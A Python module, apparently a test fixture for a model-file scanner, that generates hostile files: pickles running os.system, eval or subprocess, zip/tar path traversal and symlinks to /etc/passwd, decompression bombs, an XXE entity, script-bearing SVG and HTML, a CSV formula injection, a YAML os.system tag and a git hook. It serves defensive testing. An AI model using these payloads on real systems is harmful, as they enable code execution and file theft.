"""Files that would do something if anybody loaded, unpacked or showed them."""

import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from typing import Any, Final, NamedTuple

import numpy as np

_ZEROS: Final = 20 << 20
"""What the bombs come to; a real one would hold a million times as much."""


class HostileFile(NamedTuple):
    """A file, what it is said to be, and the attacks (A1 to A60) that it stands for."""

    name: str
    format: str
    content: bytes
    stands_for: str


class _Runs:
    """Is unpickled by calling something."""

    def __init__(self, call: Callable[..., Any], *arguments: Any) -> None:
        self._told = call, arguments

    def __reduce__(self) -> tuple[Callable[..., Any], tuple[Any, ...]]:
        return self._told


def hostile_files(command: str) -> tuple[HostileFile, ...]:
    """Make them; ``command`` is what each would run if it could."""
    return (*_pickles(command), *_archives(command), *_shown(command), *_models(command))


def _pickles(command: str) -> Iterator[HostileFile]:
    import os
    import subprocess

    evil = _Runs(os.system, command)
    for protocol in range(pickle.HIGHEST_PROTOCOL + 1):
        content = pickle.dumps(evil, protocol)
        yield HostileFile(f"protocol{protocol}.pkl", "pickle", content, "A40")
    code = f"__import__('os').system({command!r})"
    shell = ("sh", "-c", command)
    for name, call, arguments in (
        ("eval", eval, (code,)), ("exec", exec, (code,)), ("popen", subprocess.Popen, (shell,)),
        ("loads", pickle.loads, (pickle.dumps(evil),)), ("import", __import__, ("antigravity",)),
    ):  # fmt: skip
        yield HostileFile(f"{name}.pkl", "pickle", pickle.dumps(_Runs(call, *arguments)), "A40 A44")
    plain = pickle.dumps(evil)
    honest = pickle.dumps({"coef": [1.0, 2.0]})
    yield HostileFile("appended.pkl", "pickle", honest + plain, "A44")
    yield HostileFile("cut.pkl", "pickle", plain[:-2], "A44")
    yield HostileFile(
        "text.pkl", "pickle", b"cos\nsystem\n(S'" + command.encode() + b"'\ntR.", "A40"
    )
    yield HostileFile("model.txt", "lightgbm", plain, "A44")  # another suffix than it should have
    yield HostileFile("model.skops", "skops", plain, "A43 A44")
    yield HostileFile("model.joblib", "joblib", zlib.compress(plain), "A40 A44")
    yield HostileFile("model.pkl.gz", "joblib", gzip.compress(plain), "A44")
    yield HostileFile("model.pkl.bz2", "joblib", bz2.compress(plain), "A44")
    yield HostileFile("model.pkl.xz", "joblib", lzma.compress(plain), "A44")
    yield HostileFile("model.npy", "numpy", _array(np.array([evil], dtype=object)), "A40")
    stored = io.BytesIO()
    np.savez(stored, a=np.array([evil], dtype=object))
    yield HostileFile("model.npz", "numpy", stored.getvalue(), "A40")
    torch = {"archive/data.pkl": plain, "archive/version": b"3\n", "archive/data/0": b"\0" * 8}
    yield HostileFile("model.pt", "torch", _zip(torch), "A40")
    bad = bytearray(_zip({"archive/data.pkl": plain}))
    bad[14:18] = b"\0\0\0\0"
    yield HostileFile("crc.pt", "torch", bytes(bad), "A44")


def _archives(command: str) -> Iterator[HostileFile]:
    for name, inside in (("up", "../../../new"), ("root", "/tmp/new"), ("back", "..\\..\\new")):
        yield HostileFile(f"{name}.zip", "zip", _zip({inside: command.encode()}), "A8")
    yield HostileFile("twice.zip", "zip", _zip({"a": b"1"}) + _zip({"a": b"2"}), "A44")
    yield HostileFile("bomb.zip", "zip", _zip({"zeros": bytes(_ZEROS)}), "A54")
    yield HostileFile("bomb.gz", "gzip", gzip.compress(bytes(_ZEROS)), "A54")
    link = zipfile.ZipInfo("link")
    link.external_attr = 0o120777 << 16
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        archive.writestr(link, "/etc/passwd")
    yield HostileFile("link.zip", "zip", held.getvalue(), "A8 A9")
    kinds = {"up": tarfile.REGTYPE, "symlink": tarfile.SYMTYPE, "hardlink": tarfile.LNKTYPE}
    for name, kind in {**kinds, "device": tarfile.CHRTYPE, "fifo": tarfile.FIFOTYPE}.items():
        yield HostileFile(f"{name}.tar", "tar", _tar("../../../new", kind), "A8")
    yield HostileFile("cut.zip", "zip", _zip({"a": b"1" * 99})[:-30], "A44")


def _shown(command: str) -> Iterator[HostileFile]:
    script = b"<script>window.broken=1</script>"
    page = b"<!doctype html><html><body>" + script
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="window.broken=1">' + script + b"</svg>"
    xml = b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY a SYSTEM "file:///etc/passwd">]><s>&a;</s>'
    notebook = {"cells": [{"outputs": [{"data": {"text/html": script.decode()}}]}], "nbformat": 4}
    yield HostileFile("plot.svg", "svg", svg, "A34")
    yield HostileFile("report.html", "html", page, "A34")
    yield HostileFile("entity.svg", "svg", xml, "A34")
    yield HostileFile("book.ipynb", "notebook", json.dumps(notebook).encode(), "A34")
    yield HostileFile("image.gif", "gif", b"GIF89a/*" + b"\0" * 9 + b"*/=window.broken=1;", "A34")
    yield HostileFile("paper.pdf", "pdf", b"%PDF-1.4\n" + page + _zip({"a": b"1"}), "A34 A44")
    yield HostileFile("app.js", "javascript", b"window.broken = 1", "A34")
    yield HostileFile("table.csv", "csv", f"=cmd|' /C {command}'!A0\n".encode(), "A34")


def _models(command: str) -> Iterator[HostileFile]:
    yaml = f"!!python/object/apply:os.system ['{command}']\n".encode()
    yield HostileFile("MLmodel", "mlflow", b"flavors: " + yaml, "A42 A45")
    yield HostileFile("dvc.yaml", "dvc", f"stages: {{a: {{cmd: '{command}'}}}}\n".encode(), "A48")
    yield HostileFile("post-checkout", "file", f"#!/bin/sh\n{command}\n".encode(), "A48")
    tree = {
        "__class__": "system",
        "__module__": "os",
        "__loader__": "FunctionNode",
        "content": command,
    }
    trusted = {"schema.json": json.dumps({**tree, "trusted": ["os.system"]}).encode()}
    yield HostileFile("forged.skops", "skops", _zip(trusted), "A42 A43")
    keras = {
        "config.json": json.dumps(
            {"class_name": "Lambda", "config": {"function": command}}
        ).encode()
    }
    yield HostileFile("model.keras", "keras", _zip(keras), "A41")
    yield HostileFile("model.safetensors", "safetensors", struct.pack("<Q", 2**62) + b"{}", "A52")
    yield HostileFile(
        "model.gguf", "gguf", b"GGUF" + struct.pack("<IQQ", 3, 2**62, 2**62), "A49 A52"
    )
    onnx = b"\x0a\x15location\x12\x0b../../canary.txt"
    yield HostileFile("model.onnx", "onnx", onnx, "A1 A41")
    deep = b"[" * 50_000 + b"]" * 50_000
    yield HostileFile("model.json", "xgboost", deep, "A52")
    yield HostileFile("model.parquet", "parquet", b"PAR1" + b"\xff" * 64 + b"PAR1", "A51")
    arrow = b"ARROW1\0\0ARROW:extension:name\0arrow.py_extension_type\0" + pickle.dumps(
        _Runs(eval, "1")
    )
    yield HostileFile("data.arrow", "arrow", arrow, "A51")
    yield HostileFile("model.h5", "keras", b"\x89HDF\r\n\x1a\n" + b"\xff" * 99, "A41")


def _array(of: "np.ndarray[Any, Any]") -> bytes:
    stored = io.BytesIO()
    np.save(stored, of, allow_pickle=True)
    return stored.getvalue()


def _zip(files: dict[str, bytes]) -> bytes:
    stored = io.BytesIO()
    with zipfile.ZipFile(stored, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return stored.getvalue()


def _tar(name: str, kind: bytes) -> bytes:
    stored = io.BytesIO()
    member = tarfile.TarInfo(name)
    member.type, member.linkname = kind, "/etc/passwd"
    with tarfile.open(fileobj=stored, mode="w") as archive:
        archive.addfile(member, io.BytesIO())
    return stored.getvalue()
